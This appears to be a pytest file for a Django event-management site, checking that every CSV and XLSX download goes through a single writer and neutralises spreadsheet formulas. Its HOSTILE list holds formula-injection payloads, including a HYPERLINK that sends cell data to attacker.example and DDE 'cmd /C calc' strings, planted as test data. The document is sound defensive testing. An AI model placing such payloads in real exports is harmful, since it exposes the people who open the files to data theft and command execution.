"""Every table people download (CSV, XLSX) comes from manifatture/tabular.py, and
none carries a live formula, whatever hosts, staff or visitors typed.

- No other module writes tables: no spreadsheet library, no csv.writer, no
  response with a CSV or XLSX content type (so a new download must use the writer,
  and the writer refuses to answer outside a view marked @tabular.download).
- The views marked @tabular.download, found by walking the URL configuration, are
  exactly the keys of FETCHES: a new download fails here until it has an entry.
- With the site full of text beginning with =, +, -, @, a tab or a carriage
  return, each download is fetched as the person who may fetch it: no CSV cell
  starts with one of them (unless it is a plain number), no XLSX cell is a
  formula, and each download shows some of that text, neutralised.
"""

import ast
import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from django.conf import settings
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from manifatture import tabular
from manifatture.accounts.audit import record_audit_event
from manifatture.accounts.tests.factories import StaffFactory, UserFactory
from manifatture.activities.tests.factories import (
    ActivityFactory,
    HubRoomFactory,
    TimeSlotFactory,
)
from manifatture.ballots.tests.factories import (
    BallotActivityFactory,
    BallotEntryFactory,
    BallotFactory,
)
from manifatture.bookings.tests.factories import WaitingListEntryFactory
from manifatture.calls.tests.factories import CallFactory
from manifatture.directory.tests.factories import OrganisationFactory, SiteFactory
from manifatture.editions.tests.factories import EditionFactory
from manifatture.insights.queries import Filters
from manifatture.insights.tables import build_dashboard
from manifatture.opendata.aggregates import AGGREGATES
from manifatture.opendata.resources import RESOURCES
from manifatture.participations.tests.factories import AcceptedApplicationFactory
from manifatture.spaces.tests.factories import SpaceFactory
from manifatture.tickets.tests.factories import BookingFactory
from tests.permissions.resolver import all_routes

PACKAGE = Path(settings.BASE_DIR) / "manifatture"
WRITER = PACKAGE / "tabular.py"

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Apri")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")

# Writing tables --------------------------------------------------------------------------

TABLE_LIBRARIES = {"openpyxl", "xlsxwriter", "xlwt", "tablib", "pandas", "odf", "pyexcel"}
TABLE_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml")


def _table_type(node: ast.AST) -> bool:
    return (
        isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and node.value.startswith(TABLE_TYPES)
    )


def writes_tables(tree: ast.AST) -> list[str]:
    """What in a module writes a table: an import of a spreadsheet library, a
    csv writer, a response given a CSV or XLSX content type."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [a.name for a in node.names if a.name.split(".")[0] in TABLE_LIBRARIES]
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] in TABLE_LIBRARIES:
                found.append(node.module)
            if node.module == "csv":
                found += [f"csv.{a.name}" for a in node.names if a.name in {"writer", "DictWriter"}]
        elif isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.Call):
            arguments = [*node.args, *(k.value for k in node.keywords)]
            found += [f"response of {a.value}" for a in arguments if _table_type(a)]
        elif (
            isinstance(node, ast.Assign)
            and _table_type(node.value)
            and any(isinstance(target, ast.Subscript) for target in node.targets)
        ):
            # response["Content-Type"] = "text/csv" (a descriptive dict entry is fine)
            found.append(f"header {node.value.value}")
    return found


def test_only_the_writer_writes_tables():
    offenders = {
        str(path.relative_to(PACKAGE)): found
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts
        and path != WRITER
        and (found := writes_tables(ast.parse(path.read_text())))
    }
    assert offenders == {}, "Write tables through manifatture/tabular.py"
    # The check sees a writer when there is one.
    assert {"openpyxl", "csv.writer"} <= set(writes_tables(ast.parse(WRITER.read_text())))
    assert writes_tables(ast.parse('HttpResponse(body, content_type="text/csv")'))
    assert writes_tables(ast.parse('r["Content-Type"] = "text/csv; charset=utf-8"'))


# Every download ---------------------------------------------------------------------------


def is_download(callback) -> bool:
    while callback is not None:
        if getattr(callback, "tabular_download", False):
            return True
        callback = getattr(callback, "__wrapped__", None)
    return False


def download_names() -> set[str]:
    return {route.name for route in all_routes() if is_download(route.callback)}


def dashboard_urls(name: str) -> Callable[[dict], list[tuple[str, str]]]:
    """Every table of the staff dashboard, as the code builds it."""

    def urls(world: dict) -> list[tuple[str, str]]:
        tables = build_dashboard(world["edition"], Filters()).tables
        return [
            ("staff", reverse(name, args=[slug]) + f"?edizione={world['edition'].year}")
            for slug in tables
        ]

    return urls


# URL name -> the (role, URL) requests that fetch every table it gives.
FETCHES: dict[str, Callable[[dict], list[tuple[str, str]]]] = {
    "insights:download_csv": dashboard_urls("insights:download_csv"),
    "insights:download_xlsx": dashboard_urls("insights:download_xlsx"),
    "accounts:audit_log_csv": lambda world: [("staff", reverse("accounts:audit_log_csv"))],
    "insights:demand_csv": lambda world: [
        ("staff", reverse("insights:demand_csv") + f"?edizione={world['edition'].year}")
    ],
    "opendata:file": lambda world: [
        ("anonymous", reverse("opendata:file", args=[name, "csv"]))
        for name in [*RESOURCES, *AGGREGATES]
    ],
}
# Tables that hold only our own labels and figures, nothing anybody typed.
NOTHING_TYPED = {
    f"/numeri/cruscotto/scarica/{slug}.{fmt}"
    for slug in (
        "confronto",
        "sintesi",
        "periferia",
        "host-categoria",
        "host-municipio",
        "host-nil",
        "programma",
        "provenienza",
        "municipio-residenza",
        "municipio-visitato",
        "eta",
        "ritorni",
        "albo",
        "impatto",
    )
    for fmt in ("csv", "xlsx")
} | {f"/opendata/{name}.csv" for name in AGGREGATES}


def test_every_download_has_an_entry():
    names = download_names()
    assert {"insights:download_xlsx", "opendata:file"} <= names  # the walk finds them
    assert names == set(FETCHES), (
        "Views marked @tabular.download and entries of FETCHES in tests/test_downloads.py "
        "must match: add an entry for a new download"
    )


@pytest.fixture
def hostile(db, settings):
    """Six hosts, each named, described, sited, programmed and balloted with a hostile
    text; spaces and calls likewise; an edition, hub rooms and audit events too."""
    settings.INSIGHTS_CACHE_SECONDS = 0
    cache.clear()
    edition = EditionFactory(
        year=2019,
        title=HOSTILE[0],
        tagline_it=HOSTILE[1],
        hub_name=HOSTILE[3],
        hub_address=HOSTILE[4],
    )
    ballot = BallotFactory(edition=edition)
    staff = StaffFactory(full_name=HOSTILE[0])
    for text in HOSTILE:
        organisation = OrganisationFactory(name=text, description_it=text)
        AcceptedApplicationFactory(edition=edition, organisation=organisation)
        site = SiteFactory(organisation=organisation, name=text, address=text)
        activity = ActivityFactory(
            edition=edition,
            organisation=organisation,
            site=site,
            title_it=text,
            description_it=text,
        )
        slot = TimeSlotFactory(activity=activity, room=HubRoomFactory(edition=edition, name=text))
        BallotActivityFactory(ballot=ballot, activity=activity)
        BallotEntryFactory(ballot=ballot, slot=slot, party_size=2)
        BookingFactory(slot=slot, visitor=UserFactory(), party_size=1)
        WaitingListEntryFactory(slot=slot, party_size=1)  # the demand table names it
        SpaceFactory(name=text, current_use=text)
        call = CallFactory(title_it=text, summary_it=text)
        record_audit_event(actor=staff, action="calls.call_published", target=call, summary=text)
    yield {"edition": edition, "staff": staff}
    cache.clear()


def cells_of(response) -> list[str]:
    """Every cell as text, after checking that none is a live formula."""
    content_type = response["Content-Type"]
    if content_type == tabular.CSV_CONTENT_TYPE:
        rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
        cells = [cell for row in rows for cell in row]
        live = [
            c
            for c in cells
            if c.startswith(tabular.FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(c)
        ]
        assert live == []
        return cells
    assert content_type == tabular.XLSX_CONTENT_TYPE
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type in {"f", "e"}] == []
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert [text for text in texts if text.startswith(tabular.FORMULA_STARTS)] == []
    return [str(cell.value) for cell in cells]


def test_no_download_carries_a_live_formula(hostile):
    clients = {"anonymous": Client(), "staff": Client()}
    clients["staff"].force_login(hostile["staff"])
    neutralised_seen = {"csv": set(), "xlsx": set()}
    fetched = 0
    for name, fetches in FETCHES.items():
        for role, url in fetches(hostile):
            response = clients[role].get(url)
            assert response.status_code == 200, (name, url)
            cells = cells_of(response)
            # A planted text neutralised, alone in its cell or at its start
            # (the demand table's "title – organisation").
            planted = {
                text for text in HOSTILE if any(cell.startswith("'" + text) for cell in cells)
            }
            if url.split("?")[0] in NOTHING_TYPED:
                assert not planted, f"{url} shows typed text: take it out of NOTHING_TYPED"
            else:
                assert planted, f"{url}: none of the planted text reached it"
            kind = "xlsx" if response["Content-Type"] == tabular.XLSX_CONTENT_TYPE else "csv"
            neutralised_seen[kind] |= planted
            fetched += 1
    assert fetched == 2 * 16 + 2 + len(RESOURCES) + len(AGGREGATES)
    assert neutralised_seen == {"csv": set(HOSTILE), "xlsx": set(HOSTILE)}
